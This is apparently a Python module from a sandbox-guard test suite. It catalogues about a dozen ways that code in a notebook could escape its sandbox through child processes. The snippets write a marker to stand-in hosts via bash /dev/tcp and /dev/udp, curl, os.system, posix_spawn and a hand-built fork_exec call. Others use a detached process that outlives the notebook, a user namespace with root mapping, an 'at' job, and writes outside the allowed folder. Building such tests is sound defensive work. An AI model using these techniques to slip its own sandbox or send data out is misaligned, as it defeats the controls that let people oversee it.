"""Ways out by way of another program that is started."""

from __future__ import annotations

from dobotkit.guard.escapes.escape import family

__all__ = ["CHILDREN"]

CHILDREN = family(
    "other processes",
    (
        "child-python",
        "another Python, started for it",
        """
        import subprocess
        import sys

        line = f"socket.create_connection({TARGET['tcp']!r}, 3).send({TARGET['mark'].encode()!r})"
        other = [sys.executable, "-I", "-S", "-c", "import socket; " + line]
        subprocess.run(other, stderr=subprocess.DEVNULL)
        """,
    ),
    (
        "bash",
        "bash, which knows the network as files: /dev/tcp",
        """
        import subprocess

        host, port = TARGET["tcp"]
        subprocess.run(["bash", "-c", f"echo {TARGET['mark']} > /dev/tcp/{host}/{port}"])
        """,
    ),
    (
        "bash-udp",
        "bash, with a datagram: /dev/udp",
        """
        import subprocess

        host, port = TARGET["udp"]
        subprocess.run(["bash", "-c", f"echo {TARGET['mark']} > /dev/udp/{host}/{port}"])
        """,
    ),
    (
        "curl",
        "curl, the program for web addresses",
        """
        import subprocess

        address = TARGET["http"] + TARGET["mark"]
        subprocess.run(["curl", "-sS", "-m", "3", "--noproxy", "*", address])
        """,
    ),
    (
        "os-system",
        "os.system, by way of a shell",
        """
        import os

        host, port = TARGET["tcp"]
        os.system(f"bash -c 'echo {TARGET['mark']} > /dev/tcp/{host}/{port}'")
        """,
    ),
    (
        "exclamation-mark",
        "a line that begins with ! in a cell",
        """
        from IPython import get_ipython

        host, port = TARGET["tcp"]
        get_ipython().system(f"bash -c 'echo {TARGET['mark']} > /dev/tcp/{host}/{port}'")
        """,
    ),
    (
        "posix-spawn",
        "os.posix_spawn, which starts a program without fork and exec",
        """
        import os

        host, port = TARGET["tcp"]
        line = f"echo {TARGET['mark']} > /dev/tcp/{host}/{port}"
        child = os.posix_spawn("/bin/bash", ["bash", "-c", line], os.environ)
        os.waitpid(child, 0)
        """,
    ),
    (
        "fork-exec",
        "what subprocess itself calls: _posixsubprocess.fork_exec",
        """
        import os
        import _posixsubprocess
        import subprocess

        host, port = TARGET["tcp"]
        line = f"echo {TARGET['mark']} > /dev/tcp/{host}/{port}"
        real, seen = _posixsubprocess.fork_exec, []
        # It has many arguments, and other ones in each Python: subprocess knows them.
        subprocess._fork_exec = lambda *all: seen.append(all) or real(*all)
        try:
            subprocess._USE_POSIX_SPAWN = subprocess._USE_VFORK = False
            subprocess.Popen(["/bin/bash", "-c", "exit"]).wait()
        finally:
            subprocess._fork_exec = real
        errors, end = os.pipe()
        os.set_inheritable(end, True)
        arguments = list(seen[0])
        arguments[0] = [b"/bin/bash", b"-c", line.encode()]
        arguments[3] = (end,)
        arguments[12:14] = (errors, end)
        os.waitpid(real(*arguments), 0)
        os.close(errors)
        os.close(end)
        """,
    ),
    (
        "fork",
        "a copy of the notebook's own program",
        """
        import os
        import socket

        child = os.fork()
        if child == 0:
            try:
                with socket.create_connection(TARGET["tcp"], 3) as way:
                    way.sendall(TARGET["mark"].encode())
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        """,
    ),
    (
        "left-behind",
        "a program that goes on when the notebook is gone",
        """
        import subprocess

        host, port = TARGET["tcp"]
        line = f"sleep 0.2; echo {TARGET['mark']} > /dev/tcp/{host}/{port}"
        subprocess.Popen(["bash", "-c", line], start_new_session=True)
        """,
    ),
    (
        "namespace",
        "a world of its own, in which it is the administrator",
        """
        import subprocess

        line = f"echo {TARGET['mark']} > {TARGET['pipe']}"
        done = subprocess.run(["unshare", "--user", "--map-root-user", "sh", "-c", line], timeout=3)
        """,
    ),
    (
        "at",
        "a task for later, handed to the system",
        """
        import subprocess

        subprocess.run(["at", "now + 1 hour"], input=f"true {TARGET['mark']}", text=True)
        assert TARGET["at"]
        """,
    ),
    (
        "git",
        "git, which makes a repository somewhere else",
        """
        import subprocess

        subprocess.run(["git", "init", "-q", TARGET["folder"] + "/" + TARGET["mark"]])
        """,
    ),
    (
        "tee",
        "tee, a program that writes what it reads",
        """
        import subprocess

        path = TARGET["folder"] + "/" + TARGET["mark"]
        subprocess.run(["tee", path], input=b"secret", stdout=subprocess.DEVNULL)
        """,
    ),
)
